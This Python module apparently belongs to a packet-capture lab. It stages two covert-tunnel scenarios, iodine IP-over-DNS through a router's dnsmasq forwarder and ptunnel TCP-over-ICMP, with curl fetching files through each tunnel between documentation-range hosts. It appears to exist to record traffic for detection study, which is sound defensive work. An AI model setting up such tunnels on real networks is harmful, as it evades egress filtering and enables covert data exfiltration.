"""Tunnels in DNS and ICMP: iodine (IP over DNS) and ptunnel (TCP over ICMP echo). Needs iodine, ptunnel, dnsmasq-base,
curl, /dev/net/tun.

Run it as ``python -m pcaps.lab.attacks.tunnels [SCENE...]``.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

from pcaps._office_hosts import ROUTER
from pcaps.lab._lab import Lab, record

INTERNAL, EXTERNAL = "10.20.10.66", "203.0.113.53"
DOMAIN, SECRET = "t.zone.example", "hush"


def dns(lab: Lab) -> Iterator[None]:
    """Queries pass the internal DNS resolver, as in a network that blocks all other traffic."""
    external, internal = lab.external("far", EXTERNAL), lab.host("desk", INTERNAL)
    lab.start(external, "iodined", "-f", "-c", "-P", SECRET, "192.168.99.1", DOMAIN, port=53, proto="udp")
    lab.serve(external, "pages", port=80)
    lab.start(
        lab.router,
        "dnsmasq",
        "-k",
        "--conf-file=/dev/null",
        "--no-hosts",
        "--no-resolv",
        f"--server=/{DOMAIN}/{EXTERNAL}",
        "--user=root",
        port=53,
        proto="udp",
    )
    yield
    lab.start(internal, "iodine", "-f", "-r", "-P", SECRET, ROUTER.ip, DOMAIN)
    time.sleep(20)
    for _ in range(3):
        lab.run(internal, "curl", "-s", "-m", "10", "-o", "/dev/null", "http://192.168.99.1/notes-3000.txt")


def icmp(lab: Lab) -> Iterator[None]:
    external, internal = lab.external("far", EXTERNAL), lab.host("desk", INTERNAL)
    lab.serve(external, "pages", port=80)
    lab.run(external, "sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1")
    lab.start(external, "ptunnel")
    yield
    lab.start(internal, "ptunnel", "-p", EXTERNAL, "-lp", "8000", "-da", EXTERNAL, "-dp", "80")
    time.sleep(2)
    for _ in range(4):
        lab.run(internal, "curl", "-s", "-m", "20", "-o", "/dev/null", "http://127.0.0.1:8000/notes-12000.txt")
        time.sleep(1)


if __name__ == "__main__":
    record(Path(__file__).parent, tunnel_dns=dns, tunnel_icmp=icmp)
